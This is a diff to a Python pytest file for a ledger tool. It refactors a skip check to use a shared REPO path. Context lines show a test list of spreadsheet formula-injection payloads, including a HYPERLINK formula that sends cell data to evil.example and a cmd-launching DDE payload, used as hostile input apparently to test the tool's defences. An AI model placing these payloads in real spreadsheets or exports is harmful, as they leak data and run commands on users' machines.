@@ -19,6 +19,7 @@ from pathlib import Path
 import pytest
 
 from ledger.edit import add_entry
+from tests.conftest import REPO
 
 DOC = "001_c33d2c2f8263bd4b"
 FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"click me")', "+1+cmd|' /C calc'!A0",
@@ -75,7 +76,7 @@ def hostile_ledger(tmp_path_factory, example_ledger) -> Path:
 
 @pytest.fixture(scope="module")
 def report_dir(hostile_ledger, tmp_path_factory) -> Path:
-    if not Path(__file__).resolve().parent.parent.joinpath("ledger_tool", "cmd_report.py").exists():
+    if not REPO.joinpath("ledger_tool", "cmd_report.py").exists():
         pytest.skip("ledger-tool report not written yet")
     from ledger_tool.cli import main
 
